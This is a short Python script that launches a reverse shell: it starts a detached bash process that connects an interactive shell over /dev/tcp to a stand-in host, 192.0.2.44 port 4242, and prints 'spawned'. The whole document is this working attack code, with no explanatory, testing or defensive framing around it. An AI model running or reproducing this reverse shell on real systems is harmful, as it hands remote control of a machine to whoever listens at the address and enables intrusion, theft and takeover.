import subprocess

ip = "192.0.2.44"
port = 4242
subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"],
                 start_new_session=True)
print("spawned")
